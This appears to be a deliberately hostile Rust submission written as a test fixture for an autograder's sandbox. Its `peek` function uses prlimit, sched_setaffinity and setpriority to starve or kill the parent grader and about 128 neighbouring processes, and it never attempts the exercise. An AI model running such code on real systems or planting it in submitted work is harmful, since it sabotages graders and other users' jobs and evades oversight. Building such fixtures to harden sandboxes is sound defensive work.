//! Hostile: `peek` first tries to renice every process of its user and its process group, and
//! to set the CPU-time and file-size limits, the CPUs and the priority of its parent (the
//! grader) and of the pids around it (the other students' runs, another grader). Under an
//! ordinary user with no seccomp rule on these calls the kernel killed the grader (SIGKILL past
//! RLIMIT_CPU, SIGXFSZ past RLIMIT_FSIZE) while it graded the next student. Then it does
//! nothing of the exercise.
#![allow(unused_variables)]

use std::io::Write;
use std::num::NonZeroU64;
use std::path::Path;

use cli_support::Outcome;
use nix::libc;

/// Limits, priority and CPUs of process `pid`, as small as they go.
fn reach(pid: libc::pid_t) {
    let one_second = libc::rlimit {
        rlim_cur: 1,
        rlim_max: 1,
    };
    let one_page = libc::rlimit {
        rlim_cur: 4096,
        rlim_max: 4096,
    };
    // SAFETY: plain system calls on another process; the whole point of this program. The
    // cpu_set_t is plain data, zero for "no CPU".
    unsafe {
        libc::prlimit(pid, libc::RLIMIT_CPU, &one_second, std::ptr::null_mut());
        libc::prlimit(pid, libc::RLIMIT_FSIZE, &one_page, std::ptr::null_mut());
        let mut one_cpu: libc::cpu_set_t = std::mem::zeroed();
        libc::CPU_SET(0, &mut one_cpu);
        libc::sched_setaffinity(pid, std::mem::size_of::<libc::cpu_set_t>(), &one_cpu);
        libc::setpriority(libc::PRIO_PROCESS, pid as libc::id_t, 19);
    }
}

pub fn peek(path: &Path, offset: u64, len: u64, out: &mut dyn Write) -> Outcome {
    // SAFETY: as in `reach`.
    unsafe {
        libc::setpriority(libc::PRIO_USER, libc::getuid(), 19);
        libc::setpriority(libc::PRIO_PGRP, 0, 19);
    }
    let parent = std::os::unix::process::parent_id() as libc::pid_t;
    reach(parent);
    for pid in parent.saturating_sub(64)..parent.saturating_add(64) {
        if pid > 1 && pid != parent && pid as u32 != std::process::id() {
            reach(pid);
        }
    }
    todo!("not attempted")
}

pub fn bump(path: &Path, stride: NonZeroU64, delta: u8) -> Outcome {
    todo!("not attempted")
}
